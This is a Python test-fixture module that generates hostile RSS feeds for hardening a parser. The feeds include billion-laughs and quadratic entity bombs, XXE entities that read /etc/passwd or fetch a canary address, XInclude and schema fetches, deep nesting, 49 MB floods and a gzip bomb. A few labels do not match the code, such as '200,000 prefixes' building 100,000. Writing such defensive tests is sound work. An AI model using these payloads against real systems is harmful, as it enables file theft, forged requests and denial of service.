"""Forty feeds made to cost time, memory or secrets, or to reach out; each name says how."""

import gzip
from collections.abc import Callable
from itertools import pairwise

MOST_BYTES = 50 * 2**20
_ITEM = "<item><title>t{0}</title><guid>g{0}</guid><description>Ann: Hello. Ben: Hi.</description></item>"


def _rss(inner: str, before: str = "", attributes: str = "") -> str:
    return f'{before}<rss version="2.0"{attributes}><channel><title>x</title>{inner}</channel></rss>'


def _doctype(internal: str, inner: str = "<item><title>&a;</title><guid>g</guid></item>") -> str:
    return _rss(inner, f'<?xml version="1.0"?><!DOCTYPE rss [{internal}]>')


def _laughs() -> str:
    names = "abcdefghij"
    entities = "".join("<!ENTITY {} '{}'>".format(b, 10 * f"&{a};") for a, b in pairwise(names))
    return _doctype(f'<!ENTITY a "lol">{entities}', "<item><title>&j;</title></item>")


def _nested(depth: int, name: str = "a") -> str:
    return _rss(f"<item><description>{depth * f'<{name}>'}{depth * f'</{name}>'}</description></item>")


def _attributes(count: int) -> str:
    return " ".join(f'a{n}="x"' for n in range(count))


def _lengthening(count: int) -> str:
    return " ".join("a" * n + '="x"' for n in range(1, count))


def _filled(piece: str, size: int, before: str = "", after: str = "") -> str:
    return before + piece * ((size - len(before) - len(after)) // len(piece)) + after


def ordinary(items: int) -> bytes:
    """A feed with nothing hostile in it."""
    return _rss("".join(map(_ITEM.format, range(items)))).encode()


def hostile_files(canary: str) -> dict[str, Callable[[], bytes]]:
    """Return makers of the files by name; `canary` is an address that nobody may visit, as host:port."""
    url, large = f"http://{canary}/x", MOST_BYTES - 1_000
    in_item = ("<item><description>", "</description></item>")
    texts: dict[str, Callable[[], str]] = {
        # Document types
        "billion laughs": _laughs,
        "quadratic blow-up": lambda: _doctype(
            "<!ENTITY a '" + "x" * 100_000 + "'>", "<item>" + "&a;" * 20_000 + "</item>"
        ),
        "external entity of a file": lambda: _doctype('<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "external entity of an address": lambda: _doctype(f'<!ENTITY a SYSTEM "{url}">'),
        "parameter entity": lambda: _doctype(f'<!ENTITY % p SYSTEM "{url}"> %p;'),
        "public identifier": lambda: _rss("", f'<!DOCTYPE rss PUBLIC "-//x//" "{url}">'),
        "doctype without entities": lambda: _doctype(""),
        "doctype behind comments": lambda: _rss("", "<!-- x -->" * 5_000 + f"<!DOCTYPE rss SYSTEM '{url}'>"),
        "doctype in small letters": lambda: _rss("", f'<!doctype rss [<!ENTITY a SYSTEM "{url}">]>'),
        "doctype inside the feed": lambda: _rss(f'<item><!DOCTYPE x [<!ENTITY a SYSTEM "{url}">]>&a;</item>'),
        "doctype never closed": lambda: '<!DOCTYPE rss [<!ENTITY a "' + "x" * 2_000_000,
        "attribute defaults": lambda: _doctype("<!ATTLIST item a CDATA 'x'>"),
        "inclusion": lambda: _rss(
            f'<item><xi:include href="{url}"/></item>', attributes=' xmlns:xi="http://www.w3.org/2001/XInclude"'
        ),
        "style sheet": lambda: _rss("", f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}"?>'),
        "schema location": lambda: _rss(
            "<item/>",
            attributes=f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="{url}"',
        ),
        # Depth and numbers
        "200,000 levels": lambda: _nested(200_000),
        "101 levels": lambda: _nested(101),
        "3,000,000 levels never closed": lambda: _rss("<a>" * 3_000_000)[:9_000_000],
        "200,000 levels of br": lambda: _nested(200_000, "br"),
        "100,001 items": lambda: _rss("<item/>" * 100_001),
        "500,000 items with text": lambda: ordinary(500_000).decode(),
        "3,000,000 elements in an item": lambda: _rss("<item>" + "<x/>" * 3_000_000 + "</item>"),
        "200,000 attributes": lambda: _rss(f"<item {_attributes(200_000)}/>"),
        "one attribute of 20 MB": lambda: _rss('<item a="' + "x" * 20_000_000 + '"/>'),
        "1,500 tags of 3,000 attributes": lambda: _rss(f"<item {_attributes(3_000)}/>" * 1_500),
        "200,000 prefixes": lambda: _rss("".join(f'<p{n}:x xmlns:p{n}="u{n}"/>' for n in range(100_000))),
        "200,000 undeclared prefixes": lambda: _rss("".join(f"<p{n}:x/>" for n in range(200_000))),
        "a name of 20 MB": lambda: _rss("<" + "n" * 20_000_000 + "/>"),
        "3,000 attributes up to 3,000 letters long": lambda: _rss(f"<item {_lengthening(3_000)}/>"),
        # Size
        "51 MiB": lambda: _filled("x", MOST_BYTES + 2**20, _rss("")[:-16]),
        "one text of 49 MB": lambda: _filled("x", large, _rss("")[:-16] + in_item[0], in_item[1] + "</channel></rss>"),
        "one comment of 49 MB": lambda: _filled("x", large, "<!--", "-->" + _rss("")),
        "a comment of 49 MB inside": lambda: _filled("x", large, _rss("")[:-16] + "<!--", "--></channel></rss>"),
        "an instruction of 49 MB": lambda: _filled("x", large, _rss("")[:-16] + "<?a ", "?></channel></rss>"),
        "one text of 49 MB with an emoji": lambda: _filled(
            "x", large, _rss("")[:-16] + in_item[0] + "\U0001f600", in_item[1] + "</channel></rss>"
        ),
        "40 texts of 1 MB with an emoji": lambda: _rss(f"{in_item[0]}\U0001f600{'x' * 1_200_000}{in_item[1]}" * 40),
        "a comment never closed": lambda: _filled("<!-- ", 20_000_000, _rss("")[:-16]),
        "CDATA never closed": lambda: _filled("<![CDATA[", 20_000_000, _rss("")[:-16]),
        "10,000,000 references": lambda: _filled("&amp;", 20_000_000, _rss("")[:-16] + in_item[0]),
        "lone ampersands": lambda: _filled("&", 20_000_000, _rss("")[:-16] + in_item[0]),
        "tags never closed": lambda: _filled("<title", 10_000_000, _rss("")[:-16]),
        "items never closed": lambda: _filled("<item>", 10_000_000, _rss("")[:-16]),
    }
    files: dict[str, Callable[[], bytes]] = {name: _encoded(make) for name, make in texts.items()}
    plain = _rss(_ITEM.format(1))
    return files | {
        # Encodings and compression
        "UTF-7": lambda: b'<?xml version="1.0" encoding="utf-7"?>' + _doctype('<!ENTITY a "x">').encode("utf-7"),
        "doctype in UTF-16": lambda: _doctype('<!ENTITY a SYSTEM "file:///etc/passwd">').encode("utf-16"),
        "says UTF-16, is not": lambda: f'<?xml version="1.0" encoding="UTF-16"?>{plain}'.encode(),
        "EBCDIC": lambda: plain.encode("cp500"),
        "an encoding that runs code": lambda: f'<?xml version="1.0" encoding="bz2_codec"?>{plain}'.encode(),
        "half a surrogate pair": lambda: plain.replace("Hello", "\\ud800&#xD800;&#0;").encode(),
        "49 MB of zeros": lambda: bytes(large),
        "a gzip bomb": lambda: gzip.compress(bytes(2**30 // 8)),
    }


def _encoded(make: Callable[[], str]) -> Callable[[], bytes]:
    return lambda: make().encode()
